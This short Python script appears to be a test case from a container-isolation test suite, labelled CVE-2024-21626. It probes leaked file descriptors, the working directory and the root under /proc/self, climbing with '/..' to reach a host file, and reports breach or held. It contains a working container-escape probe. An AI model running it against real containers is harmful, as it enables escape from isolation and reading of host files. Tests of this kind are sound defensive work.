# CVE-2024-21626: a descriptor or a working directory that leads outside.
# want: pass
import os
from attack import *
for fd in list(range(0, 60)) + ["cwd", "root"]:
    for up in range(1, 12):
        base = "/proc/self/%s" % fd if isinstance(fd, str) else "/proc/self/fd/%d" % fd
        p = base + "/.." * up + os.environ["HOST_FILE"]
        if os.path.exists(p):
            breach(p)
cwd = os.getcwd()
if cwd.startswith("(unreachable)"):
    breach(cwd)
held()
